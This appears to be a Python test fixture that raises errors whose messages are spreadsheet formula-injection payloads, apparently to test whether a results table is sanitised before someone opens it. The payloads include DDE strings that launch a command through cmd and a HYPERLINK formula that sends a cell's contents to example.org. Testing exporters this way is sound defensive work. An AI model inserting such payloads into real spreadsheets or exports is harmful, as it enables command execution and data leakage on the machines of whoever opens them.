"""Formulas, for whoever opens the table of results.

tries: exceptions that begin like formulas, with tabs, line ends, quotes and separators of every kind
observe: raises
"""

WORDS = (
    '=HYPERLINK("http://example.org/?"&A1,"points")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1\r\n=1+1\v=2\f=3","7","7"\n',
    ';=1;"=1"',
    "\u00a0=1+1 \uff1d1+1",
    "%0A=1",
)
count = [0]


def scaled_dot_product_attention(q, k, v, mask=None):
    count[0] += 1
    raise RuntimeError(WORDS[count[0] % len(WORDS)])
